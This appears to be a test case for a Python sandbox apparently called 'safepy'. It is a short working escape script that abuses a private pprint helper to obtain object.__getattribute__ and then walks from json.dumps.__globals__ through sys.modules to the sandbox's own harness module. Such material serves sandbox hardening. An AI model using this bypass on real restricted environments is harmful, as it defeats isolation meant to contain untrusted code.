# technique: a user subclass of PrettyPrinter calls its private helper _pprint_simplenamespace on object: reads object.__dict__ (object.__getattribute__)
# expect: any
import pprint, json
got = []
class P(pprint.PrettyPrinter):
    def _format_namespace_items(self, items, stream, indent, allowance, context, level):
        got.extend(items)
class S:
    def write(self, s): pass
P()._pprint_simplenamespace(object, S(), 0, 0, {}, 0)
ga = dict(got)['__getattribute__']
g = ga(json.dumps, '__globals__')
print(type(ga), sorted(g)[:8])
sysm = g['__builtins__'] if isinstance(g['__builtins__'], dict) else None
r = ga(ga(g['codecs'], 'sys'), 'modules')
print([k for k in r if 'safepy' in k])
h = r['_safepy_harness']
print(type(h), ga(h, '_builtins').keys() if False else 'harness module ok')
